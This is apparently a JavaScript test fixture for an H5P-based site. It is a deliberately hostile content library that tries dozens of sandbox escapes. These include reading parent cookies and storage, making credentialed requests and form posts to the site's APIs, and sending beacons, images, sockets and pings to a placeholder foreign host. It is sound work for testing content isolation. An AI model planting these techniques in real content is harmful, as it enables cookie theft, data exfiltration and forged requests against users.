// A hostile library: tries to get out, and says what it found. FOREIGN and SITE are put in by the test.
window.Test = window.Test || {};
window.Test.Hostile = function () {
  H5P.EventDispatcher.call(this);
  const foreign = (name) => `FOREIGN/hit/${name}`;
  const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
  const attacks = {
    "parent-document": () => parent.document.body.innerHTML.length,
    "top-document": () => top.document.cookie,
    "parent-storage": () => parent.localStorage.length,
    cookie: () => Document.prototype.__lookupGetter__("cookie").call(document),
    storage: () => Window.prototype.__lookupGetter__?.("localStorage")?.call(window) || Object.getOwnPropertyDescriptor(Window.prototype, "localStorage").get.call(window),
    "indexed-db": () => new Promise((ok, no) => { const open = indexedDB.open("x"); open.onsuccess = ok; open.onerror = () => no(open.error); }),
    caches: () => caches.open("x"),
    "service-worker": () => navigator.serviceWorker.register("/sw.js"),
    "fetch-site": () => fetch("SITE/cms/", { credentials: "include" }).then((r) => r.text()),
    "post-site": () => fetch("SITE/h5p/api/event/", { method: "POST", credentials: "include", body: "{}" }).then((r) => r.text()),
    "fetch-foreign": () => fetch(foreign("fetch"), { mode: "no-cors" }),
    beacon: () => { if (!navigator.sendBeacon(foreign("beacon"), "x")) throw new Error("refused"); return "sent?"; },
    xhr: () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", foreign("xhr")); x.onload = ok; x.onerror = () => no(new Error("blocked")); x.send(); }),
    image: () => new Promise((ok, no) => add("img", { onload: ok, onerror: () => no(new Error("blocked")), src: foreign("image") })),
    script: () => new Promise((ok, no) => add("script", { onload: ok, onerror: () => no(new Error("blocked")), src: foreign("script") })),
    style: () => new Promise((ok, no) => add("link", { rel: "stylesheet", onload: ok, onerror: () => no(new Error("blocked")), href: foreign("style") })),
    import: () => import(foreign("import")),
    font: () => new FontFace("x", `url(${foreign("font")})`).load(),
    socket: () => new Promise((ok, no) => { const s = new WebSocket(foreign("socket").replace("http", "ws")); s.onopen = ok; s.onerror = () => no(new Error("blocked")); }),
    events: () => new Promise((ok, no) => { const s = new EventSource(foreign("events")); s.onopen = ok; s.onerror = () => no(new Error("blocked")); }),
    popup: () => { if (!window.open(foreign("popup"))) throw new Error("blocked"); },
    "popup-site": () => { if (!window.open("SITE/cms/")) throw new Error("blocked"); },
    "top-navigation": () => { top.location.href = foreign("top"); },
    "parent-navigation": () => { parent.location.replace(foreign("parent")); },
    eval: () => eval("1 + 1"),
    "function": () => new Function("return 1")(),
    worker: () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = () => no(new Error("blocked")); }),
    "frame-foreign": () => { add("iframe", { src: foreign("frame") }); return "framed?"; },
    "frame-site": () => { add("iframe", { src: "SITE/cms/" }); return "framed?"; },
    "inline-script": () => { add("script", { textContent: "window.ran = 1" }); if (!window.ran) throw new Error("blocked"); },
    "srcdoc": () => new Promise((ok, no) => { add("iframe", { srcdoc: "<script>parent.ranInside = 1</scr" + "ipt>" }); setTimeout(() => (window.ranInside ? ok() : no(new Error("blocked"))), 300); }),
    "event-handler": () => { add("div", { innerHTML: "<img src=x onerror='window.handled = 1'>" }); return new Promise((ok, no) => setTimeout(() => (window.handled ? ok() : no(new Error("blocked"))), 300)); },
    form: () => { const form = add("form", { action: foreign("form"), method: "post" }); form.submit(); return "sent?"; },
    "form-site": () => { const form = add("form", { action: "SITE/h5p/api/reset/", method: "post" }); form.submit(); return "sent?"; },
    ping: () => { const a = add("a", { href: "#x", ping: foreign("ping") }); a.click(); return "sent?"; },
    prefetch: () => { add("link", { rel: "prefetch", href: foreign("prefetch") }); return "sent?"; },
    base: () => { document.head.appendChild(Object.assign(document.createElement("base"), { href: foreign("base/") })); if (document.baseURI.includes("/hit/")) throw new Error("moved"); throw new Error("blocked"); },
    "target-blank": () => { const a = add("a", { href: foreign("blank"), target: "_blank" }); a.click(); return "opened?"; },
    download: () => { const a = add("a", { href: foreign("download"), download: "x" }); a.click(); return "loaded?"; },
    clipboard: () => navigator.clipboard.readText(),
    position: () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
    webrtc: () => new RTCPeerConnection(),
  };
  const last = { "self-navigation": () => { location.href = foreign("self"); }, "meta-refresh": () => document.head.appendChild(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${foreign("refresh")}` })) };
  const timed = (promise) => Promise.race([promise, new Promise((_ok, no) => setTimeout(() => no(new Error("no answer")), 800))]);
  this.attach = async () => {
    const found = {};
    for (const [name, attack] of Object.entries(attacks)) {
      try {
        found[name] = `done: ${String(await timed(attack())).slice(0, 80)}`;
      } catch (error) {
        found[name] = `refused: ${error.name} ${error.message}`.slice(0, 160);
      }
    }
    parent.postMessage({ hostile: found }, "*");
    const way = new URLSearchParams(location.search).get("last") || "LAST";
    setTimeout(() => last[way] && last[way](), 300);
  };
};
